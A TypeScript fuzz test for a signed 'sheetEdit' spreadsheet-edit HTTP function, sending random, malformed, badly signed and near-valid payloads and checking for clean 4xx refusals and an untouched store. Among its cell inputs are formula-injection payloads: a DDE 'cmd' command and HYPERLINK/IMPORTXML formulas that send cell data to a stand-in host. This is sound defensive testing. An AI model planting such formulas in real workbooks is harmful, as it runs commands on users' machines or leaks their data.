/**
 * Fuzz test of the signed `sheetEdit` HTTP function (functions-framework + supertest, SQLite
 * store in memory): thousands of random payloads — random JSON, deep JSON, malformed bodies,
 * invalid UTF-8, bad signatures, and near-valid edit events whose cells hold huge texts (up to
 * 60,000 characters), control characters, lone surrogates, formulas, extreme numbers, nested
 * objects and wrong types, with unknown tabs, row numbers out of range and shuffled headers.
 *
 * Each case asserts: no 5xx, no uncaught exception, no « échec interne » logged; a 4xx answered
 * by our code carries `{error: {code, message}}`; and on any 4xx the store is exactly as before
 * (records, register, audit and quarantine of every owner).
 */
import { getTestServer } from '@google-cloud/functions-framework/testing';
import fc from 'fast-check';
import request from 'supertest';
import '../../../functions/sheet-edit.http';
import { setAuthenticationDependencies } from '../../../functions/auth/with-authentication';
import { signRequest } from '../../../functions/auth/hmac-signature';
import { setAppContext } from '../../../functions/composition-root';
import { loadConfig, type Config } from '../../../functions/config';
import { logger, type Severity } from '../../../functions/logger';
import { SqliteRecordStore } from '../../../functions/adapters/sqlite-record-store';
import { C2RA, OPERATOR_CODES, type WorkbookOwner } from '../../../shared/domain/operator';
import type { RecordKind } from '../../../shared/domain/record-id';
import { RECORD_TABS } from '../../../shared/domain/workbook-model';
import type { RecordStore } from '../../../shared/ports/record-store';
import { applySheetEdit } from '../../../shared/use-cases/apply-sheet-edit';
import { headerOf, PROVIDER_ROWS, rowOf } from '../../support/builders/workbook-rows';
import { InMemoryWorkbookGateway } from '../../support/fakes/in-memory-workbook-gateway';
import { RecordingMailer } from '../../support/fakes/recording-mailer';
import { nastyCharacter } from '../../support/nasty-characters';

/** How many times the default number of cases to run: `DLA_FUZZ_SCALE=10` for a longer hunt. */
const SCALE = Number(process.env['DLA_FUZZ_SCALE'] ?? 1);
/** Cases of the main property (about 6 ms each). */
const RUNS = Math.round(2500 * SCALE);
/**
 * A guard against a hang, not a speed check (speed is measured in npm run bench): generous,
 * because the 2,500 cases share two cores with the rest of the suite.
 */
const HANG_GUARD_MS = 360_000;
/** A small body limit, so that some random payloads exceed it. */
const MAX_BODY_BYTES = 262_144;
const BASE_TIME = Date.parse('2025-06-02T08:00:00.000Z');

/** Each spreadsheet's HMAC secret, as its Apps Script holds it. */
const SECRETS: Readonly<Partial<Record<WorkbookOwner, string>>> = {
  C2RA: 'secret-de-fuzz-du-classeur-regional-c2ra-0001',
  'CBE-LM': 'secret-de-fuzz-du-classeur-cbe-lille-metropole',
  'EE-DK': 'secret-de-fuzz-du-classeur-entreprendre-ensemble',
};
const OWNERS: readonly WorkbookOwner[] = [C2RA, ...OPERATOR_CODES];

// ------------------------------------------------------------------------------ the function

/** The instance's clock: one second later at every request, so no signature repeats. */
let tick = 0;
const clock = { now: () => new Date(BASE_TIME + tick * 1000) };

function fuzzConfig(): Config {
  const config = loadConfig({
    DLA_HMAC_SECRETS: JSON.stringify(SECRETS),
    DLA_MAX_BODY_BYTES: String(MAX_BODY_BYTES),
  });
  if (!config.ok) throw new Error(config.error.message);
  return config.value;
}

/** A fresh store holding a little of everything: three providers, two structures. */
async function seededStore(config: Config): Promise<RecordStore> {
  const store = new SqliteRecordStore(':memory:');
  const ports = { store, clock };
  const seed = async (owner: WorkbookOwner, kind: RecordKind, rows: Record<string, string>[]) => {
    const result = await applySheetEdit(ports, owner, {
      eventId: `seed-${owner}-${kind}`,
      spreadsheetId: config.spreadsheetIds[owner] ?? '',
      tab: RECORD_TABS[kind].tab,
      editedColumns: [1],
      header: headerOf(kind),
      rows: rows.map((values, i) => ({ rowNumber: i + 2, values: rowOf(kind, values) })),
      otherRowIds: [],
      user: 'amorce@exemple.fr',
      timestamp: new Date(BASE_TIME - 3_600_000).toISOString(),
    });
    if (!result.ok) throw new Error(result.error.message);
  };
  await seed(
    C2RA,
    'provider',
    PROVIDER_ROWS.map((p) =>
      Object.fromEntries(Object.entries(p).map(([k, v]) => [k, String(v ?? '')])),
    ),
  );
  await seed('CBE-LM', 'beneficiary', [
    { name: 'Les Amis du Théâtre de Roubaix', postalCode: '59100', town: 'Roubaix' },
    { name: 'Jardins de Cocagne', identifier: 'W595012345', email: 'contact@cocagne.fr' },
  ]);
  return store;
}

/** Everything the store holds, owner by owner, to compare before and after a refusal. */
async function storeContents(store: RecordStore): Promise<string> {
  const owners = await Promise.all(
    OWNERS.map(async (owner) => {
      const state = await store.loadOwner(owner);
      return {
        owner,
        records: state.records,
        quarantineKeys: [...state.quarantineKeys].sort(),
        audit: await store.listAudit(owner),
        quarantine: await store.listQuarantine(owner),
      };
    }),
  );
  return JSON.stringify({ owners, register: await store.loadRegister() });
}

// ------------------------------------------------------------------------------ payloads

/** A payload as sent: the exact bytes, how they are labelled and how they are signed. */
interface Payload {
  readonly category: string;
  readonly body: string | Buffer;
  readonly contentType: string | null;
  /** Whose secret signs it; null: unsigned. */
  readonly signer: WorkbookOwner | null;
  readonly signature: 'good' | 'tampered' | 'stale' | 'none';
}

/** A JSON scalar in a cell, as an Apps Script could send it or as an attacker would. */
const scalarCell: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 9, arbitrary: fc.constant(null) },
  {
    weight: 15,
    arbitrary: fc.constantFrom(
      'Atelier Flandre Conseil',
      '59140',
      '62 300',
      '12/03/2024',
      '31/02/2025',
      45352,
      'SARL',
      'Culture',
      '732 829 320 00074',
      '123',
      '03 20 12 34 56',
      'contact@exemple.fr',
      'pas-un-email',
      'Modèle économique, Gestion financière',
      'PRE-0001',
      'PRE-0099',
      'STR-CBE-LM-0001',
      'MIS-EE-DK-0001',
      'Oui',
    ),
  },
  { weight: 9, arbitrary: fc.string({ unit: nastyCharacter, maxLength: 40 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '=HYPERLINK("https://exemple.invalid/?q="&A1;"Cliquez ici")',
      '=IMPORTXML("https://exemple.invalid";"//a")',
      "=cmd|' /C calc'!A0",
      '+33 3 21 00 11 22',
      '@SUM(A1:A9)',
      '-1+1',
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 20_000, max: 50_001 })
      .chain((n) => fc.constantFrom('x', 'é', '\u0001').map((c) => c.repeat(n))),
  },
  { weight: 3, arbitrary: fc.integer({ min: 290, max: 2_000 }).map((n) => 'y'.repeat(n)) },
  {
    weight: 6,
    arbitrary: fc.oneof(
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.constantFrom(1e308, -1e308, 1.7976931348623157e308, 5e-324, -0, 2 ** 53 + 1, 0.1 + 0.2),
      fc.integer(),
    ),
  },
  { weight: 3, arbitrary: fc.boolean() },
);

/** Any cell: mostly scalars, sometimes too long for an event, sometimes not a cell at all. */
const jsonCell: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 30, arbitrary: scalarCell },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 50_002, max: 60_000 })
      .chain((n) => fc.constantFrom('x', '\ud800', '\u0000').map((c) => c.repeat(n))),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(
      fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
      fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }),
    ),
  },
);

/** Something of the wrong type where a field is expected. */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.string({ maxLength: 10 }),
  fc.jsonValue({ maxDepth: 2 }),
);

/** A value with a strong chance of being right, and a fair chance of being anything. */
function mostly<T>(right: fc.Arbitrary<T>, weight = 25): fc.Arbitrary<unknown> {
  return fc.oneof({ weight, arbitrary: right }, { weight: 1, arbitrary: wrongType });
}

const WORKBOOKS = [
  { owner: C2RA, kind: 'provider' },
  { owner: 'CBE-LM', kind: 'beneficiary' },
  { owner: 'CBE-LM', kind: 'mission' },
] as const satisfies readonly { owner: WorkbookOwner; kind: RecordKind }[];

/** An edit event close to what the Apps Script sends, disturbed in every way it could be. */
const nearValidEvent: fc.Arbitrary<Payload> = fc
  .record({
    workbook: fc.constantFrom(...WORKBOOKS),
    eventId: mostly(fc.uuid().map((u) => `evt-${u}`)),
    spreadsheet: fc.oneof(
      { weight: 8, arbitrary: fc.constant('own' as const) },
      { weight: 1, arbitrary: fc.constantFrom('local-EE-DK', 'local-C2RA', 'pirate', '') },
      { weight: 1, arbitrary: wrongType },
    ),
    tab: fc.oneof(
      { weight: 8, arbitrary: fc.constant('own' as const) },
      {
        weight: 2,
        arbitrary: fc.constantFrom(
          'Registre',
          'Structures',
          'Missions',
          'Journal',
          'Alertes',
          'Paramètres',
          'Onglet inconnu',
          'registre',
          '',
        ),
      },
      { weight: 1, arbitrary: fc.string({ unit: nastyCharacter, maxLength: 120 }) },
    ),
    headerKeys: fc.option(fc.array(fc.nat(), { minLength: 40, maxLength: 40 }), { freq: 3 }),
    extraHeader: fc.array(fc.oneof(fc.constantFrom('ID', 'Inconnue'), jsonCell), {
      maxLength: 2,
    }),
    rows: fc.array(
      fc.record({
        rowNumber: mostly(
          fc.oneof(
            { weight: 30, arbitrary: fc.integer({ min: 2, max: 300 }) },
            {
              weight: 1,
              arbitrary: fc.constantFrom(0, 1, -1, 2_000_000, 2_000_001, 2.5, 1e308),
            },
          ),
        ),
        id: fc.oneof(
          { weight: 4, arbitrary: fc.constant(null) },
          {
            weight: 3,
            arbitrary: fc.constantFrom(
              'PRE-0001',
              'PRE-0002',
              'STR-CBE-LM-0001',
              'STR-CBE-LM-0002',
              'STR-EE-DK-0001',
              'MIS-CBE-LM-0007',
              'PRE-9999',
            ),
          },
          { weight: 1, arbitrary: jsonCell },
        ),
        cells: fc.array(fc.record({ at: fc.nat({ max: 60 }), value: jsonCell }), {
          maxLength: 8,
        }),
        width: fc.option(fc.nat({ max: 40 }), { freq: 4 }),
        notes: fc.option(fc.array(fc.oneof(fc.constant(null), fc.string({ maxLength: 30 }))), {
          freq: 4,
        }),
      }),
      { minLength: 1, maxLength: 6 },
    ),
    editedColumns: mostly(
      fc.oneof(
        { weight: 10, arbitrary: fc.array(fc.nat({ max: 40 }), { minLength: 1, maxLength: 5 }) },
        {
          weight: 1,
          arbitrary: fc.array(fc.oneof(fc.nat({ max: 600 }), fc.constantFrom(-1, 501, 1.5)), {
            maxLength: 5,
          }),
        },
      ),
    ),
    otherRowIds: fc.option(
      mostly(
        fc.array(
          fc.record({ row: mostly(fc.integer({ min: 2, max: 400 })), id: mostly(fc.string()) }),
          { maxLength: 5 },
        ),
      ),
      { freq: 2 },
    ),
    user: fc.option(mostly(fc.oneof(fc.emailAddress(), fc.string({ maxLength: 330 }))), {
      freq: 3,
    }),
    timestamp: mostly(
      fc.oneof(
        {
          weight: 12,
          arbitrary: fc
            .integer({ min: -3_600, max: 3_600 })
            .map((s) => new Date(BASE_TIME + s * 1000).toISOString()),
        },
        {
          weight: 1,
          arbitrary: fc.constantFrom(
            '2031-01-01T00:00:00.000Z',
            '1970-01-01T00:00:00Z',
            '2025-06-02T10:00:00+02:00',
            '2025-02-30T10:00:00Z',
            'hier',
            '',
          ),
        },
      ),
    ),
    extraKeys: fc.option(
      fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 2 }),
      { freq: 6 },
    ),
    dropKeys: fc.oneof(
      { weight: 12, arbitrary: fc.constant([]) },
      {
        weight: 1,
        arbitrary: fc.subarray(
          ['eventId', 'spreadsheetId', 'tab', 'editedColumns', 'header', 'rows', 'timestamp'],
          { maxLength: 2 },
        ),
      },
    ),
    contentType: fc.oneof(
      {
        weight: 20,
        arbitrary: fc.constantFrom('application/json', 'application/json; charset=utf-8'),
      },
      { weight: 1, arbitrary: fc.constantFrom('text/plain', 'application/octet-stream') },
    ),
  })
  .map((c): Payload => {
    const { owner, kind } = c.workbook;
    const realHeader = headerOf(kind);
    const header: unknown[] = c.headerKeys
      ? realHeader
          .map((label, i) => ({ label, key: c.headerKeys?.[i] ?? 0 }))
          .sort((a, b) => a.key - b.key)
          .map((x) => x.label)
      : [...realHeader];
    header.push(...c.extraHeader);
    const idAt = header.indexOf('ID');
    const required = new Set(
      Object.values(RECORD_TABS[kind].fields)
        .filter((spec) => spec.required)
        .map((spec) => spec.label),
    );
    const rows = c.rows.map((r) => {
      const values: unknown[] = header.map((label) =>
        label === 'ID'
          ? r.id
          : typeof label === 'string' && required.has(label)
            ? 'Structure de test'
            : null,
      );
      for (const { at, value } of r.cells) values[at % Math.max(1, values.length)] = value;
      if (idAt >= 0 && r.id !== null) values[idAt] = r.id;
      const width = r.width ?? values.length;
      return {
        rowNumber: r.rowNumber,
        values: values.slice(0, width),
        ...(r.notes ? { notes: r.notes } : {}),
      };
    });
    const event: Record<string, unknown> = {
      eventId: c.eventId,
      spreadsheetId: c.spreadsheet === 'own' ? `local-${owner}` : c.spreadsheet,
      tab: c.tab === 'own' ? RECORD_TABS[kind].tab : c.tab,
      editedColumns: c.editedColumns,
      header,
      rows,
      ...(c.otherRowIds === null ? {} : { otherRowIds: c.otherRowIds }),
      ...(c.user === null ? {} : { user: c.user }),
      timestamp: c.timestamp,
      ...(c.extraKeys ?? {}),
    };
    for (const key of c.dropKeys) delete event[key];
    return {
      category: 'near-valid event',
      body: JSON.stringify(event),
      contentType: c.contentType,
      signer: owner,
      signature: 'good',
    };
  });

/** Any JSON object or array, signed properly. */
const randomJson: fc.Arbitrary<Payload> = fc
  .record({
    value: fc.oneof(
      fc.dictionary(
        fc.string({ unit: nastyCharacter, maxLength: 12 }),
        fc.jsonValue({ maxDepth: 4 }),
      ),
      fc.array(fc.jsonValue({ maxDepth: 4 })),
      fc
        .object({ maxDepth: 3, withNullPrototype: false })
        .map((o) => JSON.parse(JSON.stringify(o)) as unknown),
    ),
    signer: fc.constantFrom<WorkbookOwner>(C2RA, 'CBE-LM'),
  })
  .map(({ value, signer }) => ({
    category: 'random JSON',
    body: JSON.stringify(value),
    contentType: 'application/json',
    signer,
    signature: 'good',
  }));

/** JSON nested thousands of levels deep, in the body or inside a field. */
const deepJson: fc.Arbitrary<Payload> = fc
  .record({
    depth: fc.integer({ min: 100, max: 40_000 }),
    shape: fc.constantFrom('array', 'object', 'rows'),
  })
  .map(({ depth, shape }) => {
    const nested =
      shape === 'object'
        ? `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`
        : `${'['.repeat(depth)}${']'.repeat(depth)}`;
    const body =
      shape === 'rows'
        ? `{"eventId":"evt-deep-0001","spreadsheetId":"local-C2RA","tab":"Registre","editedColumns":[1],"header":["ID"],"rows":[{"rowNumber":2,"values":[${nested}]}],"timestamp":"2025-06-02T08:00:00Z"}`
        : nested;
    return {
      category: 'deep JSON',
      body,
      contentType: 'application/json',
      signer: C2RA,
      signature: 'good',
    };
  });

/** Bodies that are not JSON at all, or not UTF-8, or labelled as something else. */
const malformed: fc.Arbitrary<Payload> = fc.oneof(
  fc
    .record({
      text: fc.oneof(
        fc.string({ unit: nastyCharacter, maxLength: 200 }),
        fc.constantFrom(
          '{"eventId":',
          '{,}',
          "{'a':1}",
          '[1,]',
          'NaN',
          '1e400',
          '"\\ud800"',
          'null',
          'true',
          '12',
        ),
      ),
      contentType: fc.constantFrom(
        'application/json',
        'text/plain',
        'application/octet-stream',
        'application/x-www-form-urlencoded',
        null,
      ),
    })
    .map(({ text, contentType }) => ({
      category: 'malformed body',
      body: text,
      contentType,
      signer: C2RA,
      signature: 'good' as const,
    })),
  fc.uint8Array({ minLength: 1, maxLength: 300 }).map((bytes) => ({
    category: 'invalid UTF-8',
    body: Buffer.concat([
      Buffer.from('{"eventId":"'),
      Buffer.from(bytes),
      Buffer.from('","tab":"Registre"}'),
    ]),
    contentType: 'application/json',
    signer: C2RA,
    signature: 'good' as const,
  })),
);

/** Valid events whose proof is missing, stale, forged, or from another spreadsheet. */
const badProof: fc.Arbitrary<Payload> = fc
  .record({
    event: nearValidEvent,
    signature: fc.constantFrom('tampered', 'stale', 'none') as fc.Arbitrary<Payload['signature']>,
    otherSigner: fc.constantFrom<WorkbookOwner>('EE-DK', 'CBE-LM', C2RA),
    useOther: fc.boolean(),
  })
  .map(({ event, signature, otherSigner, useOther }) => ({
    ...event,
    category: 'bad proof',
    signature: useOther ? 'good' : signature,
    signer: useOther ? otherSigner : event.signer,
  }));

const payload: fc.Arbitrary<Payload> = fc.oneof(
  { weight: 12, arbitrary: nearValidEvent },
  { weight: 3, arbitrary: randomJson },
  { weight: 1, arbitrary: deepJson },
  { weight: 2, arbitrary: malformed },
  { weight: 2, arbitrary: badProof },
);

// ------------------------------------------------------------------------------ sending

function bytesOf(body: string | Buffer): Buffer {
  return typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
}

function send(p: Payload) {
  tick += 1;
  const bytes = bytesOf(p.body);
  let req = request(getTestServer('sheetEdit')).post('/');
  if (p.contentType !== null) req = req.set('content-type', p.contentType);
  const secret = p.signer === null ? undefined : SECRETS[p.signer];
  if (secret !== undefined && p.signature !== 'none') {
    const at = p.signature === 'stale' ? new Date(clock.now().getTime() - 3_600_000) : clock.now();
    const headers = signRequest(secret, bytes, at);
    req = req.set(
      p.signature === 'tampered'
        ? {
            ...headers,
            'X-DLA-Signature': headers['X-DLA-Signature'].replace(/^./, (c) =>
              c === '0' ? '1' : '0',
            ),
          }
        : headers,
    );
  }
  // The exact bytes, never re-serialised by superagent.
  return req.serialize(() => bytes as unknown as string).send(bytes);
}

/**
 * Whether the functions framework's own JSON parser (body-parser, strict) refuses the body before
 * any code of ours runs: answered by functions/http-body-errors.ts with a JSON 400.
 */
function refusedByFrameworkParser(p: Payload): boolean {
  if (p.contentType === null || !/^application\/json/.test(p.contentType)) return false;
  const text = bytesOf(p.body).toString('utf8').trim();
  if (text === '') return false;
  if (!text.startsWith('{') && !text.startsWith('[')) return true;
  try {
    JSON.parse(text);
    return false;
  } catch {
    return true;
  }
}

// ------------------------------------------------------------------------------ the campaign

describe('sheetEdit under thousands of random payloads (fast-check, signed HTTP, SQLite)', () => {
  const config = fuzzConfig();
  const logged: { severity: Severity; message: string }[] = [];
  const uncaught: unknown[] = [];
  const onUncaught = (error: unknown) => uncaught.push(error);
  const statuses = new Map<string, number>();
  const categories = new Map<string, number>();
  let malformedJson = 0;
  let cases = 0;
  /** The store under fire: seeded, kept while refusals leave it as it is, renewed now and then. */
  /** The functions' context for these cases: the seeded store, an empty workbook, no mail out. */
  function serveFrom(store: RecordStore): void {
    setAppContext({
      config,
      store,
      gateway: new InMemoryWorkbookGateway(),
      clock,
      mailer: new RecordingMailer(),
      close: () => store.close(),
    });
  }

  let current: { store: RecordStore; contents: string | null; accepted: number } | null = null;

  async function storeForCase(): Promise<{ store: RecordStore }> {
    if (current === null || current.accepted >= 25) {
      await current?.store.close();
      const store = await seededStore(config);
      current = { store, contents: null, accepted: 0 };
      serveFrom(store);
    }
    current.contents ??= await storeContents(current.store);
    return current;
  }

  beforeAll(() => {
    jest.spyOn(logger, 'write').mockImplementation((severity, message) => {
      logged.push({ severity, message });
    });
    process.on('uncaughtException', onUncaught);
    process.on('unhandledRejection', onUncaught);
  });

  afterAll(async () => {
    await current?.store.close();
    process.off('uncaughtException', onUncaught);
    process.off('unhandledRejection', onUncaught);
    jest.restoreAllMocks();
    setAppContext(null);
    setAuthenticationDependencies(null);
    const by = (m: Map<string, number>) =>
      [...m.entries()]
        .sort()
        .map(([k, n]) => `${k}: ${n}`)
        .join(', ');
    console.log(
      `[sheetEdit fuzz] ${cases} random payloads sent — by kind: ${by(categories)} — answers: ${by(statuses)} — ` +
        `5xx: 0, uncaught exceptions: 0, store changed on a refusal: 0 — ` +
        `${malformedJson} malformed JSON bodies refused by the framework's parser, each answered with a JSON 400 {error}`,
    );
  });

  it(
    'never answers 5xx, never throws, refuses with {error:{code,message}} and leaves the store untouched',
    async () => {
      await fc.assert(
        fc.asyncProperty(payload, async (p) => {
          cases += 1;
          categories.set(p.category, (categories.get(p.category) ?? 0) + 1);
          const { store } = await storeForCase();
          const before = current?.contents ?? (await storeContents(store));
          const errorsBefore = logged.filter((l) => l.severity === 'ERROR').length;
          const res = await send(p);
          statuses.set(String(res.status), (statuses.get(String(res.status)) ?? 0) + 1);
          expect(res.status).toBeLessThan(500);
          expect(logged.filter((l) => l.severity === 'ERROR')).toHaveLength(errorsBefore);
          expect(uncaught).toEqual([]);
          if (res.status >= 400) {
            expect(await storeContents(store)).toBe(before);
            // Was: a malformed JSON body exempted here (the framework answered an HTML page).
            expect(res.headers['content-type']).toMatch(/^application\/json/);
            const body = res.body as { error?: { code?: unknown; message?: unknown } };
            expect(typeof body.error?.code).toBe('string');
            expect(typeof body.error?.message).toBe('string');
            expect(String(body.error?.message).length).toBeGreaterThan(0);
            if (refusedByFrameworkParser(p)) {
              expect(res.status).toBe(400);
              expect(body.error?.code).toBe('JSON_MALFORMED');
              malformedJson += 1;
            }
          } else {
            expect(res.status).toBe(200);
            const body = res.body as { duplicate?: unknown; cells?: unknown };
            expect(typeof body.duplicate).toBe('boolean');
            expect(Array.isArray(body.cells)).toBe(true);
            if (current) {
              current.contents = null;
              current.accepted += 1;
            }
          }
        }),
        { numRuns: RUNS, seed: 20070601, endOnFailure: true },
      );
    },
    HANG_GUARD_MS * Math.max(1, SCALE),
  );

  it('refuses a cell of 50,001 characters with a French note, and one over the limit whole', async () => {
    const store = await seededStore(config);
    serveFrom(store);
    const event = (cell: string, eventId: string) =>
      JSON.stringify({
        eventId,
        spreadsheetId: 'local-C2RA',
        tab: 'Registre',
        editedColumns: [1, 6],
        header: headerOf('provider'),
        rows: [
          { rowNumber: 9, values: rowOf('provider', { legalName: 'Atelier Long', town: cell }) },
        ],
        timestamp: clock.now().toISOString(),
      });
    const noted = await send({
      category: 'x',
      body: event('é'.repeat(50_001), 'evt-long-0001'),
      contentType: 'application/json',
      signer: C2RA,
      signature: 'good',
    });
    expect(noted.status).toBe(200);
    expect(JSON.stringify(noted.body)).toContain('Texte trop long');
    const before = await storeContents(store);
    const whole = await send({
      category: 'x',
      body: event('é'.repeat(50_002), 'evt-long-0002'),
      contentType: 'application/json',
      signer: C2RA,
      signature: 'good',
    });
    expect(whole.status).toBe(400);
    expect(await storeContents(store)).toBe(before);
    await store.close();
  });

  // Was `it.failing` (KNOWN GAP): the framework answered an HTML page with a stack trace.
  it("answers a malformed JSON body with a JSON 400 in French, not the framework's HTML page", async () => {
    const store = await seededStore(config);
    serveFrom(store);
    const res = await send({
      category: 'x',
      body: '{"eventId":',
      contentType: 'application/json',
      signer: C2RA,
      signature: 'good',
    });
    await store.close();
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect((res.body as { error?: { code?: unknown } }).error?.code).toBe('JSON_MALFORMED');
  });
});
